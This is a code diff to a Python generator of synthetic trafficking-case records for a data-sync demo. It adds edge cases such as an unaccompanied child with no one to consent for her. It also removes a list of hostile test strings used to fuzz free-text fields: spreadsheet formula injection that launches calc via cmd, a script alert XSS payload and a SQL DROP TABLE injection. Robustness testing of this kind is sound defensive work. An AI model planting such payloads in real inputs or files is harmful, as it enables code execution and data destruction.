@@ -22,18 +22,6 @@ from kobo_sync.demo.scenario.facts import (
     quarter_of,
 )
 
-HOSTILE_TEXTS = (
-    '=HYPERLINK("http://exemple.invalid/?x="&A1;"Cliquez ici")',
-    "  =1+1",
-    "\ufeff+cmd|' /C calc'!A0",
-    "@SUM(A1:A9)\t-2+3",
-    "Enfants confiés à l’école 👧🏽👦🏿 🚨 👨‍👩‍👧‍👦, suite demain",
-    "وجد الأطفال في المحطة \u202eetxet erbmun\u202c fin",
-    "Témoignage très long. " + "La piste est longue et le récit l’est aussi ; " * 150,
-    "Lignes\nsuivantes\tet\u0085signes\u200b de\u2028mise \ufffden page \ue000 ]]> <script>alert(1)</script> &amp; %s",
-    "'; DROP TABLE submission; -- ${code_evenement} \\u0000",
-)
-
 
 def _draw(scenario: Scenario, rng: Random, code: str, quarter: int, theme: str) -> tuple[TraiteFacts, Provider]:
     provider = BY_CODE[code]
@@ -139,14 +127,23 @@ def rows_without_persons(scenario: Scenario) -> None:
         _tell(scenario, rng, facts, provider, f"accord_{consent}", consent=consent)
     for code, theme in (("DST_TAH", "wahaya"), ("POL_NIA", "promesses"), ("OIM_AGZ", "algerie")):
         facts, provider = _draw(scenario, rng, code, rng.randrange(4), theme)
+        while len(facts.victims) < 2:  # of the first victim the event’s own answers tell
+            facts, provider = _draw(scenario, rng, code, rng.randrange(4), theme)
         case = _tell(scenario, rng, facts, provider, "situation_propre")
-        row = case.repeats["victime"][0]
+        row = case.repeats["victime"][1]
         row |= {"v_meme_situation": "non", "v_actes": "recruitment", "v_moyens": "abuse_vuln force_threat"}
         row |= {"v_exploitation": "sexual servitude", "v_exploitation_princ": "sexual"}
     facts, provider = _draw(scenario, rng, "SOC_NIA", 1, "domesticite")
     row = _tell(scenario, rng, facts, provider, "non_victime").repeats["victime"][0]
     row["v_statut"] = "NotAVictimOfTrafficking"
     row.pop("v_statut_organe", None)
+    children: list[Victim] = []
+    while not children:  # a child with nobody to agree for her
+        facts, provider = _draw(scenario, rng, "ONG_NIA", 2, "domesticite")
+        children = [child for child in facts.victims if age_on(child.birth, facts.day) < 17]
+    facts.victims = children[:1]
+    row = _tell(scenario, rng, facts, provider, "accord_sans_adulte", consent="refused").repeats["victime"][0]
+    row |= {"v_c_enreg": "oui", "v_c_adulte": "aucun"}
 
 
 def persons(scenario: Scenario) -> None:
@@ -183,21 +180,6 @@ def deaths(scenario: Scenario) -> None:
         facts = trafic.draw(rng, scenario.event_key(), day_in(rng, quarter), provider.region, "algerie")
         facts = replace(facts, deaths=dead, aggravating=("danger", "abandonment", "death"), benefit="oui")
         scenario.add(trafic.report(rng, facts, provider, sending(rng, facts.day), day=facts.day), "deces")
-
-
-def hostile_texts(scenario: Scenario) -> None:
-    """What people and machines put in a free text."""
-    rng = scenario.rng("textes")
-    for place, text in enumerate(HOSTILE_TEXTS):
-        if place % 3 < 2:
-            facts, provider = _draw(scenario, rng, ("POL_NIA", "ONG_NIA", "SOC_MAR")[place % 3], place % 4, "talibe")
-            case = _tell(scenario, rng, facts, provider, "texte_hostile")
-        else:
-            provider = BY_CODE["POL_DOS"]
-            migrants = trafic.draw(rng, scenario.event_key(), day_in(rng, place % 4), provider.region)
-            case = trafic.report(rng, migrants, provider, sending(rng, migrants.day), day=migrants.day)
-            scenario.add(case, "texte_hostile")
-        case.answers["observations"] = text
 
 
 def second_day(scenario: Scenario) -> None:
